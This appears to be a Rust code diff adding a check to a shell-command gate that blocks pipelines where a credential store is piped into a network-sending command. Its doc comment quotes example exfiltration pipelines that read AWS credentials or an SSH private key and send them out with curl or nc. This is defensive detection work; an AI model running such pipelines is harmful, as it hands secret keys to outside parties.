@@ -52,6 +52,7 @@ pub(super) fn line(text: &str, ctx: &Context, depth: usize) -> Vec<Decision> {
     }
     // `cd` moves where later relative paths land (`cd .trail && … >> state/grants.jsonl`).
     let mut here: Option<Context> = None;
+    let mut each = Vec::with_capacity(flat.commands.len());
     for cmd in &flat.commands {
         let producers: Vec<&Simple> = cmd
             .piped_from
@@ -59,12 +60,62 @@ pub(super) fn line(text: &str, ctx: &Context, depth: usize) -> Vec<Decision> {
             .filter_map(|&j| flat.commands.get(j))
             .collect();
         let cx = here.as_ref().unwrap_or(ctx);
-        out.extend(command(cmd, &producers, cx, depth));
+        each.push(command(cmd, &producers, cx, depth));
         if let Some(next) = after(cx, cmd) {
             here = Some(next);
         }
     }
+    if let Some(d) = credential_sent(&flat.commands, &each, text) {
+        out.push(d);
+    }
+    out.extend(each.into_iter().flatten());
     out
+}
+
+/// A credential store read and piped into a command that sends what it reads off the machine
+/// (`cat ~/.aws/credentials | curl --data-binary @- …`, `… id_ed25519 | base64 | nc host
+/// 9000`): reading it alone is a junction, and sending alone is one; together they are a key
+/// given to a third party (gate-families.md, call 81), whatever either program is called.
+/// The environment or a project's `.env` sent stays a junction (gate-tune.tsv): what it
+/// holds is not known to be a credential.
+fn credential_sent(commands: &[Simple], each: &[Vec<Decision>], text: &str) -> Option<Decision> {
+    let has = |i: usize, ids: &[RuleId]| {
+        each[i].iter().any(|d| {
+            d.verdict != Verdict::Allow
+                && d.rule
+                    .as_deref()
+                    .is_some_and(|r| ids.iter().any(|id| id.as_str() == r))
+        })
+    };
+    let sends = [
+        RuleId::HttpWrite,
+        RuleId::Exfiltration,
+        RuleId::CopyToRemote,
+        RuleId::RemoteWrite,
+        RuleId::BucketUpload,
+    ];
+    for (i, cmd) in commands.iter().enumerate() {
+        if cmd.piped_from.is_empty() || !has(i, &sends) {
+            continue;
+        }
+        // Everything upstream of it, through filters (`… | base64 | curl`).
+        let mut seen = vec![false; commands.len()];
+        let mut stack: Vec<usize> = cmd.piped_from.clone();
+        while let Some(j) = stack.pop() {
+            if j >= commands.len() || std::mem::replace(&mut seen[j], true) {
+                continue;
+            }
+            if has(j, &[RuleId::CredentialRead]) {
+                return Some(super::block(
+                    RuleId::Exfiltration,
+                    "a credential store (a private key, cloud credentials, a keychain) is piped into a command that sends it off the machine: it is never run".into(),
+                    text,
+                ));
+            }
+            stack.extend(commands[j].piped_from.iter().copied());
+        }
+    }
+    None
 }
 
 /// A line the parser refused. Unknown is a junction at least; and whatever parses of its
